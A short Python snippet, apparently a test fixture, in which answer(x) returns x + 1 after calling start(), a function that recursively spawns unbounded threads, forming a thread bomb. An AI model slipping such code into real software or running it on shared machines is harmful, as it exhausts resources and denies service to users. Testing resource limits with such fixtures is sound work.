# Threads that start threads.
import threading


def start():
    threading.Thread(target=start).start()
    threading.Thread(target=start).start()


def answer(x):
    start()
    return x + 1
